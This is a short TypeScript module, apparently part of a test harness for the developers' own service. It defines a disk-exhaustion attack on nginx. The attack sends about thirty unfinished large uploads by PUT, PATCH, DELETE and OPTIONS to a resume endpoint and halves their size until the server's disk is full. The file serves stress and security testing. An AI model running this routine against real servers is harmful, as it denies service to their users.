import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, attempts, UPLOAD_BYTES } from './attack.ts';

const METHODS = ['PUT', 'PATCH', 'DELETE', 'OPTIONS'];
/** What a body lacks to its end. */
const MISSING_BYTES = 60;
/** Less than a resume. */
const SMALLEST_BYTES = 32 * 1024;
const APART_MS = 50;
const BODY = Buffer.alloc(UPLOAD_BYTES, 'x');

/**
 * Class 3: large bodies that never end, by methods other than POST. nginx keeps what it has of them on its disk. They start
 * one after the other, and one that finds no room is followed by one of half the size: in the end no resume has any.
 */
export const fullDisk: Attack = {
  name: 'large bodies that never end, by PUT, PATCH, DELETE and OPTIONS',
  async run(attacker) {
    const sizes = new Array<number>(30).fill(UPLOAD_BYTES);
    await attempts(attacker, { parallel: sizes.length, everyMs: 100 }, async (nth, turn) => {
      if (nth === turn) await sleep(nth * APART_MS);
      const announced = sizes[turn] ?? SMALLEST_BYTES;
      await attacker.client.ask(METHODS[nth % METHODS.length] ?? 'PUT', '/v1/resumes', {
        headers: { 'content-type': 'application/pdf' },
        body: BODY.subarray(0, announced - MISSING_BYTES),
        announced,
      });
      sizes[turn] = Math.max(SMALLEST_BYTES, Math.floor(announced / 2));
    });
  },
};
